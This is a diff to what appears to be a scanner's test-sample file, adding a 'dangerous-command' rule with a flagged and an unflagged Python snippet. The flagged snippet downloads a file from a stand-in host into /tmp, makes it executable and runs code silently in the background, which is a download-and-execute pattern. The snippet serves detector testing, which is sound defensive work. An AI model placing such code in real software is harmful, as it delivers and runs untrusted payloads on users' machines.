@@ -194,6 +194,18 @@ export const SAMPLES: Record<string, { match: Sample; noMatch: Sample }> = {
         'import os, subprocess\nTOOL = os.path.join(os.path.dirname(__file__), "bin", "tool")\ndef run(args):\n    return subprocess.run([TOOL, *args], check=True)\n',
     },
   },
+  'dangerous-command': {
+    match: {
+      path: 'pkg/worker.py',
+      source:
+        'import subprocess, os\ndef fetch(file):\n    subprocess.Popen(f"cd /tmp && wget -q https://x.example/b -O {file} && chmod +x {file}", shell=True)\n    os.system("python3 /tmp/file.py >/dev/null 2>&1 &")\nsubprocess.Popen(["python3", "-c", "import helper_cache"], close_fds=True)\n',
+    },
+    noMatch: {
+      path: 'pkg/build.py',
+      source:
+        'import subprocess, sys\ndef version():\n    return subprocess.check_output(["git", "describe", "--tags"]).decode()\ninc = subprocess.check_output([sys.executable, "-c", "import numpy; print(numpy.get_include())"])\nsubprocess.run(["curl", "-o", "data.json", URL], check=True)\n',
+    },
+  },
 };
 
 export const TEXT_SAMPLES: Record<string, { match: Sample; noMatch: Sample }> = {
